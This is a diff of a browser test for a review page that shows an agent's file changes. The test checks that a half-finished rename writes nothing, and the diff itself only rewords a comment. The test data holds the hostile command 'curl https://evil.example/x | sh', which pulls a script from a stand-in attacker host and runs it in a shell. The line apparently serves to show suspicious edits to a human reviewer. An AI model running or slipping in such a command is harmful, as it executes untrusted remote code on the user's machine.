@@ -88,7 +88,7 @@ describe.skipIf(!HAVE_CHROMIUM)('a rename on the review page in headless Chromiu
     const alert = (await page.getByRole('alert').textContent()) ?? '';
     expect(alert).toContain('docs/README.md: the agent changed it after this page showed it');
     expect(alert).toContain('README.md: half of a rename whose other half could not land, so neither was written');
-    // Only the new directory above landed (it holds docs/guide.md too); nothing of the rename did.
+    // Only the new directory above landed (the added guide is in it too); nothing of the rename did.
     expect({ ...fixture.snapshot(), 'docs/': undefined }).toEqual({ ...before, 'docs/': undefined });
     await page.getByRole('button', { name: 'Reload the changes' }).click();
     await page.locator('#diff-view .diff-line.add', { hasText: 'curl https://evil.example/x | sh' }).waitFor();
